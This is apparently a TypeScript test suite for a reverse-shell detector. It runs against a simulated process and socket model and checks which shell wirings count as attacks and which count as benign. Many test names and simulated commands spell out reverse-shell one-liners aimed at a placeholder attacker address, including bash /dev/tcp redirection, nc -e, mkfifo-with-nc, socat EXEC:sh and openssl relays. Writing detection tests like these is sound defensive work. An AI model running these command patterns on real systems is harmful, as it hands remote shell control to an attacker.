import { describe, expect, test } from 'vitest'
import { devNull, file, machine, networkSocket, pipe, second, terminal, unixSocket } from './machine.ts'

const attacker = { ip: '203.0.113.9', port: 4444 }
const elsewhere = { ip: '198.51.100.7', port: 443 }
type Host = ReturnType<typeof machine>

const through = (pid: number, name: string) => ({ peer: attacker, direction: 'outbound', relay: { pid, name } })

/** The shell's latest event says who relays for it, to whom. */
const expectWired = ({ last }: Host, shell: number, relay: number, name: string) => {
  const { stdin, stdout } = last(shell).process ?? {}
  expect(stdin).toMatchObject(through(relay, name))
  expect(stdout).toMatchObject(through(relay, name))
}
const expectNotWired = ({ events }: Host, shell: number) => {
  const own = events.filter(({ process, type }) => process?.pid === shell && type !== 'exit')
  expect(own.length).toBeGreaterThan(0)
  for (const { process } of own) {
    expect(process?.stdin).not.toHaveProperty('relay')
    expect(process?.stdin).not.toHaveProperty('peer')
    expect(process?.stdout).not.toHaveProperty('relay')
  }
}
/** Every order in which these can happen. */
const orders = <T>(steps: readonly T[]): T[][] =>
  steps.length < 2
    ? [[...steps]]
    : steps.flatMap((step) => orders(steps.filter((other) => other !== step)).map((rest) => [step, ...rest]))

describe('a shell whose standard input is the connection itself', () => {
  test('bash -i >& /dev/tcp/...: the shell connects, then dups', () => {
    const host = machine()
    host.exec(10, 'bash -i', { stdio: [terminal(), terminal(), terminal()] })
    const socket = networkSocket(host.connect(10, attacker))
    host.dup(10, [socket, socket, socket])
    expect(host.last(10)).toMatchObject({
      type: 'stdio',
      process: { reads_commands_from: 'stdin', stdin: { type: 'socket', peer: attacker, direction: 'outbound' } },
    })
    expect(host.last(10).process?.stdin).not.toHaveProperty('relay')
  })

  test('nc -e: the relay becomes the shell', () => {
    const host = machine()
    host.exec(10, 'nc -e /bin/sh 203.0.113.9 4444')
    const socket = networkSocket(host.connect(10, attacker))
    host.exec(10, 'sh', { stdio: [socket, socket, socket] })
    expect(host.last(10).process).toMatchObject({
      stdin: { type: 'socket', peer: attacker, direction: 'outbound' },
      previous: { name: 'nc' },
    })
  })

  test('python: a child of the process that has connected', () => {
    const host = machine()
    host.exec(10, 'python3 -c import socket')
    const socket = networkSocket(host.connect(10, attacker))
    host.fork(10, 11)
    host.exec(11, 'sh -i', { stdio: [socket, socket, socket] })
    expect(host.last(11).process?.stdin).toEqual({ type: 'socket', peer: attacker, direction: 'outbound' })
  })
})

describe('mkfifo f; sh < f | nc 203.0.113.9 4444 > f', () => {
  const steps = ['sh starts', 'nc starts', 'nc connects'] as const
  const possible = orders(steps).filter((order) => order.indexOf('nc starts') < order.indexOf('nc connects'))

  test.each(possible)('%s, %s, %s: wired, told once', (...order) => {
    const host = machine()
    const [fifo, between] = [pipe(), pipe()]
    const play: Record<string, () => void> = {
      'sh starts': () => host.exec(11, 'sh -i', { stdio: [fifo, between, between] }),
      'nc starts': () => host.exec(12, 'nc 203.0.113.9 4444', { stdio: [between, fifo, terminal()] }),
      'nc connects': () => host.connect(12, attacker),
    }
    host.exec(10, 'bash')
    for (const pid of [11, 12]) host.fork(10, pid)
    for (const step of order) play[step]?.()
    expectWired(host, 11, 12, 'nc')
    const told = host.events.filter(({ process }) => process?.pid === 11 && process.stdin?.relay)
    expect(told).toHaveLength(1)
  })

  test('the relay’s command line is told', () => {
    const host = machine()
    const [fifo, between] = [pipe(), pipe()]
    host.exec(12, 'nc 203.0.113.9 4444', { stdio: [between, fifo] })
    host.connect(12, attacker)
    host.exec(11, 'sh', { stdio: [fifo, between] })
    expect(host.last(11).process?.stdin?.relay).toEqual({ pid: 12, name: 'nc', command_line: 'nc 203.0.113.9 4444' })
  })

  test('with `cat f |` before the shell: the relay writes into a pipe that another process passes on', () => {
    const host = machine()
    const [fifo, first, between] = [pipe(), pipe(), pipe()]
    host.exec(11, 'cat f', { stdio: [fifo, first] })
    host.exec(12, 'sh -i', { stdio: [first, between, between] })
    host.exec(13, 'nc 203.0.113.9 4444', { stdio: [between, fifo] })
    host.connect(13, attacker)
    expectWired(host, 12, 13, 'nc')
  })

  test('with openssl instead of nc', () => {
    const host = machine()
    const [fifo, between] = [pipe(), pipe()]
    host.exec(11, 'sh -i', { stdio: [fifo, between, between] })
    host.exec(12, 'openssl s_client -quiet -connect 203.0.113.9:4444', { stdio: [between, fifo] })
    host.connect(12, attacker)
    expectWired(host, 11, 12, 'openssl')
  })

  test('with busybox: one file, two programs', () => {
    const host = machine()
    const [fifo, between] = [pipe(), pipe()]
    host.exec(11, 'busybox sh', { stdio: [fifo, between] })
    host.exec(12, 'busybox nc 203.0.113.9 4444', { stdio: [between, fifo] })
    host.connect(12, attacker)
    expectWired(host, 11, 12, 'nc')
  })

  test('not any more when the relay has exited', () => {
    const host = machine()
    const [fifo, between] = [pipe(), pipe()]
    host.exec(12, 'nc 203.0.113.9 4444', { stdio: [between, fifo] })
    host.connect(12, attacker)
    host.exit(12)
    host.exec(11, 'sh', { stdio: [fifo, between] })
    expectNotWired(host, 11)
  })
})

describe('telnet a 4444 | sh | telnet a 4445', () => {
  const steps = ['the shell starts', 'the first connects', 'the second connects'] as const
  const play = (order: readonly string[]): Host => {
    const host = machine()
    const [into, out] = [pipe(), pipe()]
    host.exec(11, 'telnet 203.0.113.9 4444', { stdio: [terminal(), into] })
    host.exec(13, 'telnet 203.0.113.9 4445', { stdio: [out, terminal()] })
    const play: Record<string, () => void> = {
      'the shell starts': () => host.exec(12, 'sh', { stdio: [into, out] }),
      'the first connects': () => host.connect(11, attacker),
      'the second connects': () => host.connect(13, { ...attacker, port: 4445 }),
    }
    for (const step of order) play[step]?.()
    return host
  }
  const lastIs = (step: string) => orders(steps).filter((order) => order.at(-1) === step)

  test.each([...lastIs('the shell starts'), ...lastIs('the second connects')])('%s, %s, %s: wired', (...order) => {
    const host = play(order)
    expect(host.last(12).process?.stdin?.relay?.name).toBe('telnet')
    expect(host.last(12).process?.stdin?.peer?.ip).toBe(attacker.ip)
  })

  test.each(lastIs('the first connects'))('%s, %s, %s: wired', (...order) => {
    const host = play(order)
    expect(host.last(12).process?.stdin?.relay?.name).toBe('telnet')
  })
})

describe('exec 3<>/dev/tcp/203.0.113.9/4444; cat <&3 | sh | cat >&3', () => {
  const starts = ['the reader', 'the shell', 'the writer'] as const

  test.each(orders(starts))('%s, %s, %s starts: wired', (...order) => {
    const host = machine()
    const [into, out] = [pipe(), pipe()]
    host.exec(10, 'bash')
    const socket = networkSocket(host.connect(10, attacker))
    const play: Record<string, () => void> = {
      'the reader': () => host.exec(11, 'cat', { stdio: [socket, into] }),
      'the shell': () => host.exec(12, 'sh', { stdio: [into, out] }),
      'the writer': () => host.exec(13, 'cat', { stdio: [out, socket] }),
    }
    for (const pid of [11, 12, 13]) host.fork(10, pid)
    for (const step of order) play[step]?.()
    expect(host.last(12).process?.stdin).toMatchObject({ peer: attacker, direction: 'outbound' })
  })
})

describe('a parent that holds the connection', () => {
  const conduits = {
    'a pty': () => Array<ReturnType<typeof terminal>>(3).fill(terminal()),
    'unix sockets': () => [unixSocket(), unixSocket(), unixSocket()],
    'one unix socket': () => Array<ReturnType<typeof unixSocket>>(3).fill(unixSocket()),
    pipes: () => [pipe(), pipe(), pipe()],
  }

  describe.each(Object.entries(conduits))('and speaks through %s', (_, conduit) => {
    test('that has connected before the shell starts: the exec says so', () => {
      const host = machine()
      host.exec(10, 'socat TCP:203.0.113.9:4444 EXEC:sh')
      host.connect(10, attacker)
      host.fork(10, 11)
      host.exec(11, 'sh', { stdio: conduit() })
      expect(host.last(11).type).toBe('exec')
      expectWired(host, 11, 10, 'socat')
    })

    test('that connects after the shell has started: an event of the shell says so, once', () => {
      const host = machine()
      host.exec(10, 'socat EXEC:sh TCP:203.0.113.9:4444')
      host.fork(10, 11)
      host.exec(11, 'sh', { stdio: conduit() })
      expectNotWired(host, 11)
      host.clear()
      host.connect(10, attacker)
      expect(host.events.map(({ type, process }) => [type, process?.pid])).toEqual([
        ['connect', 10],
        ['stdio', 11],
      ])
      expectWired(host, 11, 10, 'socat')
      host.connect(10, elsewhere)
      expectWired(host, 11, 10, 'socat')
      expect(host.events.filter(({ type }) => type === 'stdio')).toHaveLength(1)
    })

    test('that an ancestor has opened', () => {
      const host = machine()
      host.exec(10, 'python3 pty.py')
      host.connect(10, attacker)
      host.fork(10, 11)
      host.fork(11, 12)
      host.exec(12, 'bash -i', { stdio: conduit() })
      expectWired(host, 12, 11, 'python3')
    })
  })

  test('wires each of several shells', () => {
    const host = machine()
    host.exec(10, 'implant')
    for (const pid of [11, 12]) {
      host.fork(10, pid)
      host.exec(pid, 'sh', { stdio: [pipe(), pipe(), pipe()] })
    }
    host.connect(10, attacker)
    expectWired(host, 11, 10, 'implant')
    expectWired(host, 12, 10, 'implant')
  })

  test('speaks for a shell that is executed through another program: sudo, env, nohup', () => {
    const host = machine()
    host.exec(10, 'socat TCP:203.0.113.9:4444 EXEC:env')
    host.connect(10, attacker)
    host.fork(10, 11)
    const pty = terminal()
    host.exec(11, 'env', { stdio: [pty, pty, pty] })
    host.exec(11, 'bash -i')
    expectWired(host, 11, 10, 'socat')
  })

  test('is told by the newest of its connections that it still holds', () => {
    const host = machine()
    host.exec(10, 'implant')
    host.connect(10, attacker)
    host.close(10, host.connect(10, elsewhere))
    host.fork(10, 11)
    host.exec(11, 'sh', { stdio: conduits.pipes() })
    expectWired(host, 11, 10, 'implant')
  })

  test('no longer wires a shell that has exited', () => {
    const host = machine()
    host.exec(10, 'implant')
    host.fork(10, 11)
    host.exec(11, 'sh', { stdio: conduits.pipes() })
    host.exit(11)
    host.clear()
    host.connect(10, attacker)
    expect(host.events.map(({ type }) => type)).toEqual(['connect'])
  })

  test('nor one that has become another program', () => {
    const host = machine()
    host.exec(10, 'implant')
    host.fork(10, 11)
    host.exec(11, 'sh', { stdio: conduits.pipes() })
    host.exec(11, 'sleep 100')
    host.clear()
    host.connect(10, attacker)
    expect(host.events.map(({ type }) => type)).toEqual(['connect'])
  })

  test('wires a shell that it had before it became the program that connects', () => {
    const host = machine()
    const pty = terminal()
    host.exec(10, 'bash')
    host.fork(10, 11)
    host.exec(11, 'sh', { stdio: [pty, pty, pty] })
    host.exec(10, 'relay')
    host.connect(10, attacker)
    expectWired(host, 11, 10, 'relay')
  })
})

describe('what is no reverse shell is not wired', () => {
  test.each([
    ['a terminal', terminal],
    ['a file', file],
    ['/dev/null', () => devNull],
    ['a pipe that nobody connected reads', pipe],
  ])('curl https://get.example | sh, its output to %s', (_, output) => {
    for (const order of orders(['curl starts', 'curl connects', 'sh starts']).filter(
      (order) => order.indexOf('curl starts') < order.indexOf('curl connects'),
    )) {
      const host = machine()
      const between = pipe()
      const play: Record<string, () => void> = {
        'curl starts': () => host.exec(11, 'curl https://get.example', { stdio: [terminal(), between] }),
        'curl connects': () => host.connect(11, elsewhere),
        'sh starts': () => host.exec(12, 'sh', { stdio: [between, output()] }),
      }
      host.exec(10, 'bash')
      for (const pid of [11, 12]) host.fork(10, pid)
      for (const step of order) play[step]?.()
      expectNotWired(host, 12)
    }
  })

  test.each(['sh -c ls', 'bash -lc ls', 'sh build.sh', 'bash -eo pipefail step.sh'])(
    'a connected server runs `%s`, with pipes or sockets to hear its output',
    (commandLine) => {
      for (const conduit of [pipe, unixSocket]) {
        const host = machine()
        host.exec(10, 'node server.js')
        host.connect(10, elsewhere)
        host.fork(10, 11)
        host.exec(11, commandLine, { stdio: [conduit(), conduit(), conduit()] })
        host.connect(10, elsewhere)
        expectNotWired(host, 11)
      }
    },
  )

  test('a program that is no shell, below a connected process', () => {
    const host = machine()
    host.exec(10, 'node server.js')
    host.connect(10, elsewhere)
    host.fork(10, 11)
    host.exec(11, 'cat', { stdio: [pipe(), pipe(), pipe()] })
    expectNotWired(host, 11)
  })

  test('a shell in a terminal that sshd serves: its connections came in', () => {
    const host = machine()
    const pty = terminal()
    host.exec(10, 'sshd')
    host.listen(10, 22)
    host.fork(10, 11)
    host.accept(11, { ip: '192.0.2.7', port: 51_000 }, 22)
    host.fork(11, 12)
    host.exec(12, 'bash -i', { stdio: [pty, pty, pty] })
    expectNotWired(host, 12)
  })

  test('a shell whose parent has closed its connection before', () => {
    const host = machine()
    const pty = terminal()
    host.exec(10, 'login')
    host.close(10, host.connect(10, elsewhere))
    host.fork(10, 11)
    host.exec(11, 'bash -i', { stdio: [pty, pty, pty] })
    expectNotWired(host, 11)
  })

  test('a shell with a terminal for its input and a pipe for its output', () => {
    const host = machine()
    host.exec(10, 'agent')
    host.connect(10, elsewhere)
    host.fork(10, 11)
    host.exec(11, 'sh', { stdio: [terminal(), pipe(), pipe()] })
    expectNotWired(host, 11)
  })

  test('a shell without descriptors, below a connected process', () => {
    const host = machine()
    host.exec(10, 'agent')
    host.connect(10, elsewhere)
    host.fork(10, 11)
    host.exec(11, 'sh', { stdio: [] })
    expectNotWired(host, 11)
  })

  test('a shell of one terminal and a connection of a process beside it', () => {
    const host = machine()
    const pty = terminal()
    host.exec(10, 'xterm')
    host.fork(10, 11)
    host.exec(11, 'bash', { stdio: [pty, pty, pty] })
    host.fork(11, 12)
    host.exec(12, 'ssh host')
    host.connect(12, elsewhere)
    host.fork(11, 13)
    host.exec(13, 'bash')
    expectNotWired(host, 11)
    expectNotWired(host, 13)
  })

  test('the connection of an unrelated process whose pipes are other pipes', () => {
    const host = machine()
    host.exec(11, 'sh', { stdio: [pipe(), pipe()] })
    host.exec(12, 'nc 203.0.113.9 4444', { stdio: [pipe(), pipe()] })
    host.connect(12, attacker)
    expectNotWired(host, 11)
  })

  test('`sh | nc`: it sends what it prints, and takes its orders from elsewhere', () => {
    const host = machine()
    const between = pipe()
    host.exec(11, 'sh', { stdio: [terminal(), between] })
    host.exec(12, 'nc 203.0.113.9 4444', { stdio: [between, terminal()] })
    host.connect(12, attacker)
    expectNotWired(host, 11)
  })

  test('a pipeline of tools, below a server whose connections are closed on exec', () => {
    const host = machine()
    const [into, out, log] = [pipe(), pipe(), pipe()]
    host.exec(10, 'runner')
    host.connect(10, elsewhere, { kept: false })
    host.fork(10, 11)
    host.exec(11, 'bash -e step.sh', { stdio: [devNull, log, log] })
    for (const pid of [12, 13, 14]) host.fork(11, pid)
    host.exec(12, 'cat install.sh', { stdio: [devNull, into] })
    host.exec(14, 'tee install.log', { stdio: [out, log] })
    host.exec(13, 'sh', { stdio: [into, out] })
    expectNotWired(host, 13)
  })
})

describe('who holds the other end', () => {
  test('is found behind programs that have the same ends: sh -c, timeout', () => {
    const host = machine()
    const ends = [unixSocket(), unixSocket(), unixSocket()]
    host.exec(10, 'socat TCP:203.0.113.9:4444 SYSTEM:sh')
    host.connect(10, attacker)
    host.fork(10, 11)
    host.exec(11, 'sh -c sh;true', { stdio: ends })
    host.fork(11, 12)
    host.exec(12, 'timeout 5 sh', { stdio: ends })
    host.fork(12, 13)
    host.exec(13, 'sh', { stdio: ends })
    expectWired(host, 13, 10, 'socat')
  })

  test('is not the program whose user escapes to a shell on his own terminal', () => {
    const host = machine()
    const own = [terminal()].flatMap((tty) => [tty, tty, tty])
    host.exec(10, 'bash', { stdio: own })
    host.fork(10, 11)
    host.exec(11, 'psql', { stdio: own })
    host.connect(11, elsewhere)
    host.fork(11, 12)
    host.exec(12, 'bash', { stdio: own })
    expectNotWired(host, 12)
  })
})

describe('half a socket, half a pipe', () => {
  test.each(['the shell first', 'the relay first'])('sh <&3 | cat >&3, %s: wired', (order) => {
    const host = machine()
    host.exec(10, 'bash')
    const socket = networkSocket(host.connect(10, attacker))
    const between = pipe()
    for (const pid of [11, 12]) host.fork(10, pid)
    const shell = () => host.exec(11, 'sh -i', { stdio: [socket, between, between] })
    const relay = () => host.exec(12, 'cat', { stdio: [between, socket, terminal()] })
    for (const start of order === 'the shell first' ? [shell, relay] : [relay, shell]) start()
    expect(host.last(11).process?.stdout?.relay).toMatchObject({ pid: 12, name: 'cat' })
    expect(host.last(11).process?.stdin?.peer).toEqual(attacker)
  })
})

describe('what the wiring remembers', () => {
  test('goes with the process: a pipe’s number may be used again', () => {
    const host = machine()
    const [fifo, between] = [pipe(), pipe()]
    host.exec(12, 'nc 203.0.113.9 4444', { stdio: [between, fifo] })
    host.connect(12, attacker)
    host.exit(12)
    host.wait(20 * second)
    host.exec(11, 'sh', { stdio: [fifo, between] })
    expectNotWired(host, 11)
  })

  test('is not the relay’s any more when the relay executes another program', () => {
    const host = machine()
    const [fifo, between] = [pipe(), pipe()]
    host.exec(12, 'nc 203.0.113.9 4444', { stdio: [between, fifo] })
    host.connect(12, attacker, { kept: false })
    host.exec(12, 'sleep 1', { stdio: [terminal(), terminal()] })
    host.exec(11, 'sh', { stdio: [fifo, between] })
    expectNotWired(host, 11)
  })
})

describe('a relay by UDP', () => {
  const udp = { stream: false }
  const resolver = { ip: '192.0.2.53', port: 53 }

  test('that started a shell while it held its socket is one: socat UDP:... EXEC:sh', () => {
    const host = machine()
    host.exec(10, 'socat UDP:203.0.113.9:4444 EXEC:sh', { stdio: [terminal(), terminal(), terminal()] })
    host.connect(10, attacker, udp)
    host.fork(10, 11)
    host.exec(11, 'sh', { stdio: [unixSocket(), unixSocket(), terminal()] })
    expectWired(host, 11, 10, 'socat')
  })

  test('is none that holds the socket of its resolver', () => {
    const host = machine()
    host.exec(10, 'node agent.js', { stdio: [terminal(), terminal(), terminal()] })
    host.connect(10, resolver, udp)
    host.fork(10, 11)
    host.exec(11, 'sh', { stdio: [pipe(), pipe(), terminal()] })
    expectNotWired(host, 11)
  })

  test('is none that looks up a name while a shell of its is at work', () => {
    const host = machine()
    host.exec(10, 'node agent.js', { stdio: [terminal(), terminal(), terminal()] })
    host.fork(10, 11)
    host.exec(11, 'sh', { stdio: [pipe(), pipe(), terminal()] })
    for (const peer of [resolver, elsewhere]) host.connect(10, peer, udp)
    expectNotWired(host, 11)
  })

  test('is none that is the other end of a pipeline and has looked up a name', () => {
    const host = machine()
    const [into, out] = [pipe(), pipe()]
    host.exec(10, 'sh', { stdio: [into, out, terminal()] })
    host.exec(12, 'logger', { stdio: [out, into, terminal()] })
    host.connect(12, elsewhere, udp)
    expectNotWired(host, 10)
  })
})
